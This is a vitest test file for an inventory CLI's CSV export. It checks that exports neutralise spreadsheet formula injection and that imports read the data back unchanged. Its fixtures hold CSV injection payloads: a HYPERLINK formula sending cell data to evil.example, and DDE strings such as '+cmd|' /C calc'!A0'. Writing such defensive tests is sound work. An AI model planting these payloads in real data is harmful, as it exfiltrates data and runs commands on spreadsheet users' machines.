import { parse } from 'csv-parse/sync';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { cliDatabase, succeeded } from '../cli/support/cli.js';

/**
 * CSV formula injection: names and references typed by shoppers or staff reach spreadsheets
 * through every CSV export; text that would start a formula is written with a leading apostrophe
 * (numbers never), and the imports take it off again, so an export reads back unchanged.
 */
describe('CSV exports neutralise spreadsheet formulas (SQLite)', { timeout: 240_000 }, () => {
  const shop = cliDatabase('sqlite', [['locations', 'create', 'MAIN', '--name', 'Main']]);
  const copy = cliDatabase('sqlite', [['locations', 'create', 'MAIN', '--name', 'Main']]);
  let dir: string;
  const path = (name: string) => join(dir, name);
  const cells = (text: string) => parse(text, { columns: true }) as Record<string, string>[];

  const hyperlink = '=HYPERLINK("http://evil.example/?"&A1,"open")';

  beforeAll(async () => {
    dir = mkdtempSync(join(tmpdir(), 'restock-formulas-'));
    writeFileSync(path('items.csv'), [
      'sku,name,unitPrice,unitCost,backorderPolicy,backorderLimit,lowStockThreshold,leadTimeDays,substitutes,discontinued',
      `WIDGET,"${hyperlink.replace(/"/g, '""')}",1000,500,allow,,0,14,,false`,
      '-DASH,+cmd|\' /C calc\'!A0,200,100,deny,3,1,7,WIDGET,false',
      'MINUS,-2+3,300,100,allow,,0,14,,false',
      'PLAIN,Plain name,400,100,allow,,0,14,,false',
    ].join('\n'));
    writeFileSync(path('stock.csv'), 'sku,location,count\nWIDGET,MAIN,5\n-DASH,MAIN,4\n');
    for (const { run } of [shop, copy]) {
      succeeded(await run('import', 'items', path('items.csv')));
      succeeded(await run('import', 'stock', path('stock.csv')));
    }
    // Text that already starts with an apostrophe before a formula, as a person could type it.
    succeeded(await shop.run('items', 'update', 'PLAIN', "--name='=quoted"));
    succeeded(await copy.run('items', 'update', 'PLAIN', "--name='=quoted"));
    succeeded(await shop.run('stock', 'adjust', 'WIDGET', 'MAIN', '--delta=-3', '--reason=-2+3'));
    succeeded(await shop.run('orders', 'place', 'WIDGET:1', '--customer-name=@SUM(1+1)*cmd|\' /C calc\'!A0', '--external-id=+1-800-EVIL', '--customer-id==1+1'));
    // A carriage return or tab, which a spreadsheet also takes as the start of a formula, is not one line of text: refused at the door.
    expect((await shop.run('orders', 'place', 'WIDGET:1', '--customer-id=\rX')).stderr).toMatch(/customer\.id: must be one line of text/);
  });

  afterAll(() => {
    rmSync(dir, { recursive: true, force: true });
  });

  it('writes text that starts a formula with an apostrophe in items, stock, orders and movements, and numbers as numbers', async () => {
    const items = cells(succeeded(await shop.run('export', 'items')).stdout);
    expect(items.map((i) => [i.sku, i.name])).toEqual([
      ["'-DASH", "'+cmd|' /C calc'!A0"], ['MINUS', "'-2+3"], ['PLAIN', "''=quoted"], ['WIDGET', `'${hyperlink}`],
    ]);
    expect(items[0]).toMatchObject({ unitPrice: '200', backorderLimit: '3', substitutes: 'WIDGET' });

    const stock = cells(succeeded(await shop.run('export', 'stock')).stdout);
    expect(stock.map((s) => [s.sku, s.count])).toEqual([["'-DASH", '4'], ['WIDGET', '2']]);

    const [line] = cells(succeeded(await shop.run('export', 'orders')).stdout);
    expect(line).toMatchObject({ externalId: "'+1-800-EVIL", customerName: "'@SUM(1+1)*cmd|' /C calc'!A0", customerId: "'=1+1", quantity: '1', allocated: '1' });

    const movements = cells(succeeded(await shop.run('export', 'movements', '--sku', 'WIDGET')).stdout);
    const count = movements.find((m) => m.reason === "'-2+3");
    expect(count).toMatchObject({ kind: 'adjustment', onHandDelta: '-3', allocatedDelta: '0' });
  });

  it('writes KPI tables the same way', async () => {
    const rows = cells(succeeded(await shop.run('kpis', '--csv', '-')).stdout);
    expect(rows.map((r) => r.name)).toEqual(["'+cmd|' /C calc'!A0", "'-2+3", "''=quoted", `'${hyperlink}`]);
  });

  it('reads an items and a stock export back exactly as they were', async () => {
    const items = succeeded(await shop.run('export', 'items', '--out', path('items-out.csv')));
    expect(items.code).toBe(0);
    const again = succeeded(await shop.run('--json', 'import', 'items', path('items-out.csv'))).json();
    expect(again).toMatchObject({ rows: 4, created: 0, updated: 0, unchanged: 4 });
    expect((await shop.run('--json', 'items', 'get', 'PLAIN')).json()).toMatchObject({ name: "'=quoted" });

    // Into a database that differs by the names only: the import puts back every name as it was.
    succeeded(await copy.run('items', 'update', 'WIDGET', '--name=Widget'));
    succeeded(await copy.run('items', 'update', 'MINUS', '--name=Minus'));
    succeeded(await copy.run('import', 'items', path('items-out.csv')));
    expect(succeeded(await copy.run('export', 'items')).stdout).toBe(readFileSync(path('items-out.csv'), 'utf8'));

    // The copy has no orders, so only the counts (what the import sets) must be equal.
    succeeded(await shop.run('export', 'stock', '--out', path('stock-out.csv')));
    succeeded(await copy.run('import', 'stock', path('stock-out.csv')));
    const counts = (text: string) => cells(text).map((s) => [s.sku, s.location, s.count]);
    expect(counts(succeeded(await copy.run('export', 'stock')).stdout)).toEqual(counts(readFileSync(path('stock-out.csv'), 'utf8')));
    expect(succeeded(await copy.run('--json', 'stock', 'list', '--sku', '-DASH')).json()).toMatchObject({ items: [{ sku: '-DASH', onHand: 4 }] });
  });
});
